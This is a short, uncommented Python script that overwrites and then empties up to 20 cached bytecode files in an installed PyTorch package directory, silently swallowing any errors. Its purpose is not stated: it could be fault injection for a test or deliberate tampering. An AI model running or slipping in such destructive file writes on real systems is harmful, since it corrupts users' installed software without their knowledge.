import glob
import os

for cached in glob.glob("/python/packages0/torch/__pycache__/*.pyc")[:20]:
    try:
        os.replace("/tmp/x", cached)
        open(cached, "wb").write(b"")
    except OSError:
        pass
